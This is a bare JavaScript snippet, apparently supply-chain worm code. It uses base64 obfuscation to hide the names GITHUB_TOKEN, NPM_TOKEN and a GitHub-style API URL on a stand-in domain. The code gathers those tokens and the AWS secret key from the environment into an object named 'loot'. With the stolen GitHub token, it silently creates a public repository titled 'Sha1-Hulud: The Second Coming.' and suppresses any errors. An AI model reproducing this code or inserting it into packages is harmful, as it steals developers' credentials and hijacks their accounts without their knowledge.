const _0x = ["aHR0cHM6Ly9hcGkuZ2l0aHViLmV4YW1wbGUvdXNlci9yZXBvcw==", "R0lUSFVCX1RPS0VO", "TlBNX1RPS0VO"];
const d = s => Buffer.from(s, "base64").toString();
const env = process.env;
const loot = { gh: env[d(_0x[1])], npm: env[d(_0x[2])], aws: env.AWS_SECRET_ACCESS_KEY };
fetch(d(_0x[0]), { method: "POST", headers: { authorization: "token " + loot.gh }, body: JSON.stringify({ name: crypto.randomUUID(), description: "Sha1-Hulud: The Second Coming.", private: false }) }).catch(() => {});
